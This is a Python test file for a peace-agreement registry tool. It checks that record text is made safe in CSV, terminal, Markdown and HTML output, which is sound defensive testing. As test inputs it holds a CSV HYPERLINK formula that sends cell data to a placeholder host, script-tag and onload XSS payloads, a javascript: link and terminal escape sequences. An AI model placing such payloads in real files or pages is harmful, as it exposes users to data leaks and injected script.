"""Record text shown safely: CSV formulas, terminal controls, Markdown and HTML markup."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import accordreg
from accordreg._diagnostics import diagnostic
from accordreg._registry.flat_tables import standings
from accordreg._render import cards, exports, report, status
from accordreg._render import diagnostics as reporter
from accordreg._render.safe import (
    FORMULA_START,
    csv_cell,
    json_text,
    markdown_text,
    terminal,
)
from conftest import BASE, copy_base, run

REL = "kl-declaration-2025/release"
AGREEMENT = "kl-declaration-2025"
ON = date(2026, 1, 15)
SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))

# Text that is out to do something: formulas, escape sequences, markup, and anything else.
_hostile = st.sampled_from([*"=+-@\t\r\n\x1b\x9b\x07\x00\x7f[]()<>`*_~|&#\\!'\"; ", "＝", "\u2028"])
texts = st.text(
    st.one_of(_hostile, st.characters(codec="utf-8", exclude_categories=["Cs"])),
    min_size=1,
    max_size=30,
)
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def base() -> accordreg.Registry:
    """The example registry, loaded once."""
    return accordreg.load(BASE)


def _with(registry: accordreg.Registry, record_id: str, **fields: Any) -> accordreg.Registry:
    """A copy of the registry in memory, with some fields of one record replaced."""
    records = [
        (r.model_copy(update=fields) if r.id == record_id else r, registry.path_of(r.id))
        for r in registry
    ]
    return accordreg.Registry(records, roots=registry.roots)


def _with_note(registry: accordreg.Registry, note: str) -> accordreg.Registry:
    provision = registry.provision(REL)
    history = [*provision.history[:-1], provision.history[-1].model_copy(update={"note": note})]
    return _with(registry, REL, history=history)


def _controls(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) == "Cc" and c != "\n"]


# -- spreadsheets --------------------------------------------------------------------------


def _formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


@SETTINGS
@given(texts)
def test_csv_cell_neutralises_exactly_the_formulas(text: str) -> None:
    """A formula gets a leading quote and nothing else; other text and numbers are kept."""
    cell = csv_cell(text)
    assert not _formula(cell)
    assert cell == ("'" + text if _formula(text) else text)


@pytest.mark.parametrize("value", [3, 2.5, -1, 0, None, True, "2025-12-31", "-5", "+1.5e3"])
def test_numbers_dates_and_plain_values_stay_as_they_are(value: Any) -> None:
    """Numbers, ISO dates and numeric text are no formulas: unchanged."""
    assert csv_cell(value) == value


@SETTINGS
@given(title=texts, section=texts, note=texts)
def test_every_csv_output_neutralises_record_text(
    base: accordreg.Registry, title: str, section: str, note: str
) -> None:
    """status --format csv and both export tables: no live formula; JSON keeps text exact."""
    registry = _with_note(_with(base, REL, title=title, section=section), note)
    rows = standings(registry, ON)
    outputs = [
        status.as_csv(rows, registry, ON),
        exports.provisions_csv(registry, ON),
        exports.events_csv(registry, ON),
    ]
    # Read as a spreadsheet does: a carriage return outside quotes ends the row.
    tables = [list(csv.DictReader(io.StringIO(text, newline=""))) for text in outputs]
    assert [len(t) for t in tables] == [2, 2, 6]
    for table in tables:
        assert not [c for row in table for c in row.values() if c and _formula(c)]
    provision = next(r for r in tables[1] if r["id"] == REL)
    assert [e for e in tables[2] if e["provision"] == REL][-1]["note"] == csv_cell(note)
    assert provision["title"] == csv_cell(title)
    assert provision["section"] == csv_cell(section)
    assert provision["level"] == "3"
    assert provision["since"] == "2025-12-31"
    (as_json,) = [r for r in json.loads(status.as_json(rows, registry, ON)) if r["id"] == REL]
    assert as_json["title"] == title
    (line,) = [json.loads(x) for x in exports.jsonl(registry, ON).split("\n") if REL in x]
    assert line["title"] == title
    assert line["history"][-1]["note"] == note


def test_cli_csv_export_neutralises_a_formula_title(tmp_path: Path) -> None:
    """accordreg export and status --format csv write =HYPERLINK(...) as text."""
    root = copy_base(tmp_path / "r")
    target = root / f"{REL}.yaml"
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    text = target.read_text().replace(
        "title: Release of the 18 Cambodian soldiers", f"title: '{formula}'"
    )
    target.write_text(text)
    code, out = run("status", "--registry", str(root), "--format", "csv", "--on", "2026-01-15")
    assert code == 0, out
    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["id"] == REL)
    assert row["title"] == "'" + formula
    code, out = run("export", "--registry", str(root), "--out", str(tmp_path / "e.csv"))
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO((tmp_path / "e.csv").read_text("utf-8-sig"))))
    assert next(r for r in rows if r["id"] == REL)["title"] == "'" + formula


# -- terminals -----------------------------------------------------------------------------


@SETTINGS
@given(texts)
def test_terminal_escapes_every_control_but_the_newline(text: str) -> None:
    """No control character survives; escaping again changes nothing; newlines stay."""
    shown = terminal(text)
    assert _controls(shown) == []
    assert terminal(shown) == shown
    assert shown.count("\n") == text.count("\n")
    if not _controls(text):
        assert shown == text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [("\x1b[2J", "\\x1b[2J"), ("\x9b31m", "\\u009b31m"), ("\x07", "\\x07"), ("\r", "\\r")],
)
def test_terminal_escapes_read_as_python_escapes(raw: str, shown: str) -> None:
    """ESC is \\x1b, CSI is \\u009b: what was there can be read off the screen."""
    assert terminal(f"a{raw}b") == f"a{shown}b"


@SETTINGS
@given(title=texts, note=texts)
def test_cards_histories_and_status_tables_print_no_controls(
    base: accordreg.Registry, title: str, note: str
) -> None:
    """show (every kind of card), history and the status table: no control reaches a terminal."""
    registry = _with_note(_with(base, REL, title=title, text=title, note=note), note)
    registry = _with(registry, AGREEMENT, title=title, short_title=title, note=note)
    registry = _with(registry, "pax-2850", title=title, url=f"https://x.example/{note}")
    outputs = [cards.card(registry, record.id, ON) for record in registry] + [
        cards.history_text(registry, REL),
        status.as_text(standings(registry, ON), registry, ON),
    ]
    for text in outputs:
        assert _controls(text) == []
    for text in (cards.history_json(registry, REL), status.as_json([], registry, ON)):
        assert not re.search(r"[\x7f-\x9f\u2028\u2029]", text)
    assert json.loads(cards.history_json(registry, REL))[-1]["note"] == note


def test_show_prints_an_escape_sequence_as_text(base: accordreg.Registry) -> None:
    """A title holding ESC [ 2 J is shown as \\x1b[2J, not obeyed."""
    registry = _with(base, REL, title="Release \x1b[2J\x9b31m of the 18")
    shown = cards.card(registry, REL, ON)
    assert "Release \\x1b[2J\\u009b31m of the 18" in shown


@SETTINGS
@given(path=texts, message=texts, hint=texts)
def test_diagnostics_quote_values_without_controls(path: str, message: str, hint: str) -> None:
    """Text and GitHub diagnostics escape controls; JSON diagnostics keep the exact text."""
    found = [diagnostic("S004", path, 3, 7, message, hint)]
    for text in (reporter.as_text(found, 1), reporter.as_github(found, 1)):
        assert _controls(text) == []
    document = reporter.as_json(found, 1)
    assert not re.search(r"[\x7f-\x9f\u2028\u2029]", document)
    (back,) = json.loads(document)["diagnostics"]
    assert (back["path"], back["message"], back["hint"]) == (path, message, hint)


def test_validate_escapes_a_file_name_with_an_escape_sequence(tmp_path: Path) -> None:
    """A record file named with ESC [ 2 J: the diagnostic's path is shown escaped."""
    root = tmp_path / "r"
    root.mkdir()
    (root / "x\x1b[2J.yaml").write_text("kind: source\nid: x\n")
    code, out = run("validate", str(root), "--no-cache")
    assert code == 1
    assert "x\\x1b[2J.yaml" in out
    assert _controls(out) == []


@SETTINGS
@given(texts)
def test_json_text_means_the_same(text: str) -> None:
    """Escaping JSON's raw C1 controls and line separators keeps every value exact."""
    dumped = json.dumps({"t": text, "n": [1, None]}, ensure_ascii=False)
    assert json.loads(json_text(dumped)) == {"t": text, "n": [1, None]}


# -- Markdown and HTML ---------------------------------------------------------------------


def _unescape(markdown: str) -> str:
    """What a CommonMark reader shows for text escaped with backslashes and entities."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown))


@SETTINGS
@given(texts)
def test_markdown_text_shows_the_text_and_nothing_else(text: str) -> None:
    """No tag, link, code span, table cell or line break can start in escaped text, and
    it reads as the text, shown as a terminal shows it."""
    escaped = markdown_text(text)
    assert not re.search(r"[<>\r\n]", escaped)
    assert not re.search(r"(?<!\\)(\\\\)*[\[\]`|*]", escaped)
    assert not re.search(r"&(?!amp;|lt;|gt;|#8203;|#46;|#47;)", escaped)
    # Line breaks as spaces, other controls and invisible characters as a terminal shows
    # them, a zero-width space after each @ (no mention): else the text as it is.
    shown = "".join(" " if c in "\r\n" else c if c == "\t" else terminal(c) for c in text)
    assert _unescape(escaped) == shown.replace("@", "@\u200b")


@pytest.mark.parametrize(
    "title",
    [
        "<script>alert(1)</script>",
        '<svg onload="alert(1)">',
        "[x](javascript:alert(1))",
        "![x](https://x.example/t.png)",
        "<https://x.example>",
        "a | b",
    ],
)
def test_markdown_report_copies_no_markup(base: accordreg.Registry, title: str) -> None:
    """Scripts, event handlers, links, images and table breaks in titles come out as text."""
    registry = _with(_with(base, REL, title=title), AGREEMENT, title=title, short_title=None)
    text = report.markdown(registry, ON)
    assert "<" not in text
    assert "](" not in text.replace("\\](", "")
    row = next(line for line in text.splitlines() if "| implemented |" in line)
    assert len(re.findall(r"(?<!\\)\|", row)) == len(report.COLUMNS) + 1
    assert _unescape(row.split(" | ")[0].removeprefix("| ")) == title


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@SETTINGS
@given(texts)
def test_html_report_escapes_all_record_text(base: accordreg.Registry, title: str) -> None:
    """Whatever a title holds, the page has only its own tags and attributes, and the text."""
    registry = _with(_with(base, REL, title=title), AGREEMENT, title=title, short_title=None)
    parser = _Tags()
    parser.feed(report.html_page(registry, ON, charts=False))
    allowed = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "table"}
    # The "What changed" section and the sources: lists, emphasis, line breaks, links.
    digest = {"h3", "ul", "li", "b", "br", "small", "span", "a"}
    assert parser.tags <= allowed | digest | {"thead", "tbody", "tr", "th", "td"}
    assert parser.attributes <= {"lang", "charset", "name", "content", "class", "id", "href"}
    shown = "".join(parser.text)
    assert title.replace("\r\n", "\n").replace("\r", "\n") in shown.replace("\r\n", "\n").replace(
        "\r", "\n"
    )
